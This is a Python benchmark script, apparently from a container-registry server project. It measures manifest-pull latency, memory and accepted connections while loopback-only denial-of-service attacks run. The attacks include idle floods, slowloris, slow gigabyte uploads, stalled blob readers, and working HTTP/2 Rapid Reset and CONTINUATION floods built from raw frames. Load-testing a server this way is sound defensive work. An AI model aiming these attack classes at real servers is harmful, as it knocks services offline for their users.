#!/usr/bin/env python3
"""What a crowd of bad clients costs, and what a good one notices of them.

    attacks.py PROGRAM [--against docker-registry] [--connections 2000 10000] [--attack NAME]

Opens so many connections that do nothing, or next to nothing, and meanwhile pulls a small manifest again
and again over new connections and over one that stays: the table has the time that takes (the first pull waits
for all that the crowd has just asked for), what memory the server has, and how many of the bad ones it
still lets in. The two attacks on HTTP/2 send for as long as
the good client pulls. Everything is on this machine and on the loopback: the attacker takes part of the
processors, which the row "nobody" of each table shows the other side of.

The limit of open files must be as high as the connections (`ulimit -Hn`). A reader that takes nothing costs
Distribution 2.8 some 4.6 MiB: no more than a few thousand of them.
"""

import argparse
import hashlib
import http.client
import json
import os
import resource
import socket
import statistics
import sys
import threading
import time
from pathlib import Path

sys.dont_write_bytecode = True

from servers import H2C, Kind, Stores  # noqa: E402

PULLS = 400
BLOB = 8 * 2**20
PATH = "/v2/app/manifests/latest"
MEDIA_TYPE = "application/vnd.oci.image.manifest.v1+json"


def main():
    options = arguments()
    allow_files(max(options.connections) + 200)
    ours = Kind("roadstead", [options.program, "serve"])
    servers = [(ours, H2C)]
    if options.against:
        servers.append((Kind("distribution", [options.against, "serve"]), ""))
    load = Path("/proc/loadavg").read_text().split()[0]
    print(f"{os.cpu_count()} processors, Linux {os.uname().release}, load {load}")
    print(f"{'server':<13}{'attack':<15}{'number':>8}{'still open':>11}{'first':>9}{'new p50':>9}{'p99':>8}{'max':>8}"
          f"{'kept p50':>9}{'p99':>8}  ms{'RSS':>8}{'before':>8}  MiB{'cores':>7}")
    for kind, more in servers:
        for name in options.attack or ATTACKS:
            if name in HTTP2 and not more:
                continue
            counts = [1] if name in ("nobody", *HTTP2) else options.connections
            for count in counts:
                with Stores(options.stores) as stores, kind.start(stores.fresh("store"), more) as server:
                    measure(server, name, count)


def arguments():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("program")
    parser.add_argument("--against")
    parser.add_argument("--connections", type=int, nargs="+", default=[2000, 10000])
    parser.add_argument("--attack", action="append", choices=ATTACKS)
    parser.add_argument("--stores", default=os.environ.get("TMPDIR", "/tmp"))
    return parser.parse_args()


def allow_files(wanted):
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    if most < wanted:
        sys.exit(f"{wanted} files must be allowed, and {most} are: ulimit -Hn")
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))


def measure(server, name, count):
    push(server)
    pull_new(server), pull_new(server)
    before = server.memory("VmRSS")
    with ATTACKS[name](server, count) as attack:
        first = timed(lambda: pull_new(server))
        cpu, begun = server.cpu(), time.monotonic()
        new = times(lambda: pull_new(server))
        kept = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
        stays = times(lambda: pull(kept))
        cores = (server.cpu() - cpu) / (time.monotonic() - begun)
        during = server.memory("VmRSS")
        number, still_open = attack.figures()
    cells = [f"{number:>8,}", f"{still_open:>11,}"]
    cells += [f"{first:>9.0f}", f"{new[0]:>9.2f}{new[1]:>8.1f}{new[2]:>8.1f}", f"{stays[0]:>9.2f}{stays[1]:>8.1f}    "]
    cells += [f"{during:>8.1f}{before:>8.1f}     ", f"{cores:>7.2f}"]
    print(f"{server.name:<13}{name:<15}" + "".join(cells), flush=True)


def push(server):
    """A manifest, and a blob that is larger than any socket's buffer."""
    blob = os.urandom(BLOB)
    config = json.dumps({}).encode()
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
    descriptors = []
    for content in (config, blob):
        digest = "sha256:" + hashlib.sha256(content).hexdigest()
        location = begin_upload(connection)
        ask(connection, "PUT", f"{location}&digest={digest}", content, "application/octet-stream", 201)
        descriptors.append({"mediaType": "application/octet-stream", "digest": digest, "size": len(content)})
    manifest = {"schemaVersion": 2, "mediaType": MEDIA_TYPE, "config": descriptors[0], "layers": descriptors[1:]}
    ask(connection, "PUT", PATH, json.dumps(manifest).encode(), MEDIA_TYPE, 201)
    server.blob = "/v2/app/blobs/" + descriptors[1]["digest"]


def begin_upload(connection):
    answer = ask(connection, "POST", "/v2/app/blobs/uploads/", b"", None, 202)
    location = answer.getheader("location")
    return location[location.index("/v2/"):]


def ask(connection, method, path, body, media_type, status):
    connection.request(method, path, body, {"Content-Type": media_type} if media_type else {})
    answer = connection.getresponse()
    text = answer.read()
    if answer.status != status:
        sys.exit(f"{method} {path}: {answer.status} {text}")
    return answer


def pull_new(server):
    connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
    pull(connection)
    connection.close()


def pull(connection):
    connection.request("GET", PATH, headers={"Accept": MEDIA_TYPE})
    answer = connection.getresponse()
    answer.read()
    if answer.status != 200:
        sys.exit(f"a good client is refused: {answer.status}")


def times(work):
    """Milliseconds: the middle, the 99th of a hundred, the longest."""
    took = []
    for _ in range(PULLS):
        took.append(timed(work))
        time.sleep(0.002)
    took.sort()
    return statistics.median(took), took[len(took) * 99 // 100], took[-1]


def timed(work):
    begun = time.perf_counter()
    work()
    return (time.perf_counter() - begun) * 1000


class Crowd:
    """Connections that each send `opening`, and then a byte of `more` a second."""

    more = b""

    def __init__(self, server, count):
        self.ended = threading.Event()
        self.sockets = [self.connect(server) for _ in range(count)]
        self.trickle = threading.Thread(target=self.run)

    def connect(self, server):
        opened = socket.create_connection(("127.0.0.1", server.port), timeout=60)
        opening = self.opening(server)
        if opening:
            opened.sendall(opening)
        opened.setblocking(False)
        return opened

    def opening(self, _server):
        return b""

    def run(self):
        while self.more and not self.ended.wait(1):
            for each in self.sockets:
                try:
                    each.send(self.more)
                except OSError:
                    pass

    def __enter__(self):
        self.trickle.start()
        return self

    def __exit__(self, *_):
        self.ended.set()
        self.trickle.join()
        for each in self.sockets:
            each.close()

    def figures(self):
        return len(self.sockets), sum(is_open(each) for each in self.sockets)


def is_open(connection):
    """Not ended by the other side; looks and takes nothing."""
    try:
        return connection.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


class Idle(Crowd):
    """Say nothing."""


class Heads(Crowd):
    """Never end the head of a request (slow loris)."""

    more = b"x"

    def opening(self, _server):
        return b"GET /v2/ HTTP/1.1\r\nHost: x\r\nX-"


class Bodies(Crowd):
    """Announce a gigabyte and send it byte by byte."""

    more = b"x"

    def opening(self, server):
        connection = http.client.HTTPConnection("127.0.0.1", server.port, timeout=60)
        location = begin_upload(connection)
        connection.close()
        return f"PATCH {location} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\nx".encode()


class Readers(Crowd):
    """Ask for a blob and do not take it."""

    def connect(self, server):
        opened = socket.socket()
        opened.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        opened.settimeout(60)
        opened.connect(("127.0.0.1", server.port))
        opened.sendall(f"GET {server.blob} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
        opened.setblocking(False)
        return opened


class Flood:
    """One HTTP/2 connection after another that sends frames as fast as the server takes them."""

    def __init__(self, server, _count):
        self.server, self.ended = server, threading.Event()
        self.sent = self.connections = 0
        self.thread = threading.Thread(target=self.run)

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.ended.set()
        self.thread.join()

    def run(self):
        while not self.ended.is_set():
            self.connections += 1
            try:
                with socket.create_connection(("127.0.0.1", self.server.port), timeout=5) as connection:
                    connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
                    drain = threading.Thread(target=receive_all, args=[connection])
                    drain.start()
                    self.attack(connection)
                    connection.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass

    def figures(self):
        """How many were sent, and over how many connections: the server ends them."""
        return self.sent, self.connections


class Resets(Flood):
    """Open a stream and reset it at once (CVE-2023-44487)."""

    def attack(self, connection):
        block = bytes([0x82, 0x86, 4, len("/v2/_catalog")]) + b"/v2/_catalog" + bytes([1, 1]) + b"x"
        for first in range(1, 2**31, 200):
            if self.ended.is_set():
                return
            streams = range(first, first + 200, 2)
            connection.sendall(b"".join(
                frame(1, 5, stream, block) + frame(3, 0, stream, bytes([0, 0, 0, 8])) for stream in streams
            ))
            self.sent += len(streams)


class Continuations(Flood):
    """Send headers that never end (CVE-2024-27316)."""

    def attack(self, connection):
        connection.sendall(frame(1, 1, 1, bytes([0x82, 0x86])))
        field = bytes([0, 6]) + b"x-more" + bytes([100]) + b"v" * 100
        while not self.ended.is_set():
            connection.sendall(frame(9, 0, 1, field) * 100)
            self.sent += 100


def frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def receive_all(connection):
    try:
        while connection.recv(65536):
            pass
    except OSError:
        pass


ATTACKS = {
    "nobody": lambda server, _: Idle(server, 0),
    "idle": Idle,
    "heads": Heads,
    "bodies": Bodies,
    "readers": Readers,
    "resets": Resets,
    "continuations": Continuations,
}

HTTP2 = ("resets", "continuations")


if __name__ == "__main__":
    main()
